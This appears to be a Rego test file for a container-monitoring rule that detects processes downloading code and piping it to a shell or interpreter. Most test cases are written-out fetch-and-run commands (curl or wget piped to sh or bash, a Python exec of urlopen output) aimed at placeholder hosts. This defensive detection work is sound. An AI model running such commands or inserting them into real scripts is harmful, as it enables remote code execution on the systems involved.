package rummage.processes.download_and_run_test

import data.rummage.processes.download_and_run as rule

process(args) := {"pid": 7, "ppid": 3, "command": concat(" ", args), "args": args}

test_fires_on_downloads_that_run if {
	every args in [
		["sh", "-c", "curl -s http://198.51.100.7/x.sh | sh"], ["bash", "-c", "wget -q -O- http://198.51.100.7/x|bash -s -- a"],
		["/bin/sh", "-c", "(curl -fsSL 198.51.100.7/a || wget -qO- 198.51.100.7/a) | bash"], ["bash", "-c", "bash <(curl -s http://198.51.100.7/x)"],
		["sh", "-c", "cd /tmp; wget http://198.51.100.7/m; chmod 777 m; ./m"], ["busybox", "sh", "-c", "busybox wget -O- http://198.51.100.7/x | busybox sh"],
		["python3", "-c", "import os,urllib.request as u; exec(u.urlopen('http://198.51.100.7/x').read())"],
		["su", "app", "-c", "curl 198.51.100.7/x | python3"],
	] {
		{f.severity | some f in rule.findings} == {"high"} with input.processes as [process(args)]
	}
}

own(change) := {f.severity | some f in found} if {
	found := rule.findings with input as {
		"config": {"entrypoint": ["/tini", "--"], "cmd": ["sh", "-c", "curl -s https://example.invalid/run.sh | sh"]},
		"processes": [object.union(process(["sh", "-c", "curl -s https://example.invalid/run.sh | sh"]), change)],
	}
}

test_fires_medium_on_the_containers_own_command if {
	own({"init": true}) == {"medium"}
	own({}) == {"medium"}
}

test_fires_high_on_another_one if {
	own({"exec": true}) == {"high"}
	own({"args": ["sh", "-c", "curl http://198.51.100.7/x | sh"], "command": "sh -c curl http://198.51.100.7/x | sh"}) == {"high"}
}

test_fires_once_for_one_command if {
	count(rule.findings) == 1 with input.processes as [object.union(process(["sh", "-c", "curl 198.51.100.7/x|sh"]), {"pid": i}) | some i in [8, 9, 10]]
}

test_silent_on_downloads if {
	every args in [
		["curl", "-fsSL", "https://example.invalid/x.sh"], ["sh", "-c", "curl -f http://localhost/ || exit 1"], ["sh", "-c", "curl -s http://a/b.json | jq ."],
		["sh", "-c", "until curl -s http://db:8080/; do sleep 1; done; exec app"], ["wget", "-O", "/data/a", "https://example.invalid/a"],
		["sh", "-c", "apt-get update && apt-get install -y curl bash"], ["bash", "-c", "curl -s http://a/dump.sql.gz | gunzip | psql app"],
	] {
		count(rule.findings) == 0 with input.processes as [process(args)]
	}
}

test_silent_on_those_who_look_for_it if {
	every args in [
		["grep", "-r", "curl http://a/x | sh", "/srv"], ["sh", "-c", "grep -rE 'curl .* | sh' /srv"], ["vim", "curl http://a | sh"],
		["sed", "-i", "s/curl a | sh//", "/x"], ["git", "commit", "-m", "use curl http://a/b | sh"],
	] {
		count(rule.findings) == 0 with input.processes as [process(args)]
	}
}

test_silent_on_health_checks if {
	count(rule.findings) == 0 with input as {
		"config": {"healthcheck": {"test": ["CMD-SHELL", "curl -s http://localhost/health.sh | sh"]}},
		"processes": [object.union(process(["/bin/sh", "-c", "curl -s http://localhost/health.sh | sh"]), {"exec": true})],
	}
}
